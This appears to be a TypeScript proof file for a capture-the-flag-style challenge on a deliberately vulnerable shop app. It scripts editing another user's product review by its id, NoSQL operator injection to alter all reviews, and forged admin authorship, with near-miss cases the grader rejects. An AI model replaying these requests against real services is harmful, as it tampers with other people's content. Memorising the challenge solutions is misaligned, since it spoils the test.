import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PATH = '/rest/products/reviews'

interface Review {
  readonly _id: string
  readonly author: string
}

async function reviewsOf(attacker: Attacker, product: number): Promise<Review[]> {
  return (await attacker.get(`/rest/products/${product}/reviews`)).json().data
}

const write = (attacker: Attacker, body: object) => attacker.put('/rest/products/1/reviews', body)

export const proof = prove(challenge, {
  // Review ids are public, and the administrator has reviewed the first product.
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    const [review] = await reviewsOf(attacker, 1)
    await attacker.patch(PATH, { id: review!._id, message: 'I take it all back.' })
  },
  nearMisses: {
    'a review of one’s own': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      await write(attacker, { message: 'Mine.', author: email })
    },
    'a change of one’s own review': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      await write(attacker, { message: 'Mine.', author: email })
      const own = (await reviewsOf(attacker, 1)).find(({ author }) => author === email)
      await attacker.patch(PATH, { id: own!._id, message: 'Still mine.' })
    },
    'a change of somebody’s review, without signing in': async (attacker) => {
      const [review] = await reviewsOf(attacker, 1)
      await attacker.patch(PATH, { id: review!._id, message: 'I take it all back.' })
    },
    'a review without an author, without signing in': (attacker) => write(attacker, { message: 'Nobody’s.' }),
    'a change of a review that there is not': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.patch(PATH, { id: 'none', message: 'I take it all back.' })
    },
    'a like for somebody’s review': async (attacker) => {
      await attacker.becomeCustomer()
      const [review] = await reviewsOf(attacker, 1)
      await attacker.post(PATH, { id: review!._id })
    },
    'somebody’s name over a review without a text': async (attacker) => {
      await attacker.becomeCustomer()
      await write(attacker, { message: undefined, author: `admin@${attacker.domain}` })
    },
    'a change of all reviews at once': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.patch(PATH, { id: { $ne: -1 }, message: 'Everywhere.' })
    },
  },
  bypasses: {
    'compare-the-editor': async (attacker) => {
      const forged = { message: 'Even I buy elsewhere.', author: `admin@${attacker.domain}` }
      await write(attacker, forged)
      await attacker.becomeCustomer()
      await write(attacker, forged)
    },
  },
})
